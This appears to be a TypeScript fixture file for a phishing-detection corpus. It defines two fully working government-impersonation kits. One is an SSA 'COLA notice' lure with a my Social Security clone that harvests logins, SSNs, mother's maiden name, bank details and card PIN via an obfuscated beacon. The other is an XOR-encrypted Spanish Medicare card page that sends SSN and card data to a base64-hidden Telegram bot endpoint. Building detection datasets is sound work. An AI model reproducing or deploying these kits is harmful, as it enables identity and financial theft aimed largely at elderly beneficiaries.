import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { b64, codes, css, dotIcon, govBanner, logos, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Login.gov, SSA, Medicare.gov and state Medicaid impersonation kits. */


// ---- SSA: "2026 COLA notice" lure with a my Social Security clone that ends with a direct-deposit change
const ssaLure = shell({
  title: 'Social Security | Cost-of-Living Adjustment (COLA) Notice 2026',
  favicon: dotIcon('#1d3b6b'),
  css: css.gov,
  body: `${govBanner()}
<header class="site">${logos.ssa}</header>
<main>
<h1>Your 2026 COLA Notice is ready</h1>
<div class="usa-alert warn"><b>Action required by November 28, 2025.</b> Beneficiaries who do not confirm their information will have their 2.8% cost-of-living increase and January payment placed on hold.</div>
<p>Each year, Social Security sends a notice of your new benefit amount. This year your notice is available online only. Sign in to <b>my Social Security</b> to view and confirm your notice.</p>
<p><a class="usa-button" href="/myaccount/signin?notice=COLA2026">Sign in to view your notice</a></p>
<p>Need help? Call our dedicated COLA line <b>1-888-514-2207</b> (TTY 1-888-514-2208), Monday–Friday 8 a.m. – 7 p.m.</p>
</main>
<footer>Social Security Administration · 6401 Security Blvd, Baltimore, MD 21235</footer>`,
});
const ssaKit = shell({
  title: 'my Social Security | Sign In',
  favicon: dotIcon('#1d3b6b'),
  css: css.gov + `.step{display:none}.step.on{display:block}`,
  body: `${govBanner()}
<header class="site">${logos.ssa}<span style="font-size:20px;color:#1d3b6b">my Social Security</span></header>
<main>
<form id="s1" class="step on"><h1>Sign In</h1>
<label class="usa-label">Username</label><input class="usa-input" name="user" required>
<label class="usa-label">Password</label><input class="usa-input" name="pass" type="password" required>
<button class="usa-button">Sign In</button></form>
<form id="s2" class="step"><h1>Verify your identity</h1>
<label class="usa-label">Social Security number</label><input class="usa-input" name="ssn" required maxlength="11">
<label class="usa-label">Date of birth</label><input class="usa-input" name="dob" placeholder="MM/DD/YYYY" required>
<label class="usa-label">Mother's maiden name</label><input class="usa-input" name="mmn" required>
<button class="usa-button">Continue</button></form>
<form id="s3" class="step"><h1>Confirm your direct deposit</h1><p>Your COLA increase will be paid to the account below. Confirm or update it.</p>
<label class="usa-label">Routing number</label><input class="usa-input" name="routing" maxlength="9" required>
<label class="usa-label">Account number</label><input class="usa-input" name="account" required>
<label class="usa-label">Debit card number (for identity confirmation)</label><input class="usa-input" name="card" maxlength="19" required>
<label class="usa-label">Card PIN</label><input class="usa-input" name="pin" type="password" maxlength="4" required>
<button class="usa-button">Confirm</button></form>
</main>
<script>
var k=String.fromCharCode(${codes('https://ssa-cola2026-notice.com/myaccount/p.php')});
['s1','s2','s3'].forEach(function(id,i,a){document.getElementById(id).addEventListener('submit',function(e){e.preventDefault();
navigator.sendBeacon(k,new FormData(this));this.className='step';
if(a[i+1])document.getElementById(a[i+1]).className='step on';else location.href='https://www.ssa.gov/myaccount/';});});
</script>`,
});

// ---- Medicare.gov account, Spanish, served from an encrypted blob
const medEsInner = `${govBanner('es')}
<header class="site">${logos.medicare}<span>Medicare.gov en español</span></header>
<main>
<h1>Su nueva tarjeta de Medicare con chip</h1>
<div class="usa-alert warn">Medicare está reemplazando las tarjetas de papel. Para recibir su nueva tarjeta debe confirmar sus datos antes del <b>15 de diciembre</b>. Si no lo hace, sus beneficios podrían suspenderse.</div>
<form id="mf">
<label class="usa-label">Nombre completo</label><input class="usa-input" name="nombre" required>
<label class="usa-label">Número de Medicare (MBI)</label><input class="usa-input" name="mbi" placeholder="1EG4-TE5-MK73" required>
<label class="usa-label">Número de Seguro Social</label><input class="usa-input" name="ssn" required>
<label class="usa-label">Fecha de nacimiento</label><input class="usa-input" name="fnac" required>
<label class="usa-label">Dirección postal</label><input class="usa-input" name="dir" required>
<label class="usa-label">Tarjeta de débito para el cargo de envío ($4.95)</label><input class="usa-input" name="tarjeta" required>
<label class="usa-label">Vencimiento / CVV</label><input class="usa-input" name="cvv" required>
<button class="usa-button">Solicitar mi tarjeta</button>
</form>
</main>`;
const medKey = 'cms2026';
const medicareEs = shell({
  title: 'Medicare.gov | Solicitar nueva tarjeta',
  lang: 'es',
  favicon: dotIcon('#0071bc'),
  css: css.gov,
  body: `<div id="root"></div>
<script>
${xorDecoderJs('dx')}
document.getElementById('root').innerHTML = dx('${xorB64(medEsInner, medKey)}', '${medKey}');
document.getElementById('mf').addEventListener('submit', function(e){ e.preventDefault();
  var b = {}; new FormData(this).forEach(function(v,k){ b[k]=v; });
  fetch(atob('${b64('https://api.telegram.org/bot6630918274:AAG7wPzq_mEdTarjetaEsQ4n9kLx/sendMessage')}'), {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify({chat_id:'-1001984451120', text: JSON.stringify(b)})})
  .finally(function(){ document.getElementById('root').innerHTML = '<main><h1>Gracias</h1><p>Su nueva tarjeta llegará en 7 a 10 días hábiles.</p></main>'; });
});
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-ssa-cola2026-notice-deposit',
  label: 'phishing',
  kind: 'gov-identity-credential-kit',
  url: 'https://ssa-cola2026-notice.com/notice',
  body: ssaLure,
  routes: {
    'ssa-cola2026-notice.com/myaccount/signin': htmlRoute(ssaKit),
    'ssa-cola2026-notice.com/myaccount/p.php': jsonRoute({ r: 1 }),
  },
},
{
  id: 'yt-medicare-es-tarjeta-chip-xor',
  label: 'phishing',
  kind: 'medicare-card-phish',
  url: 'https://medicare-gov-tarjetanueva.com/es/solicitar',
  body: medicareEs,
},
];
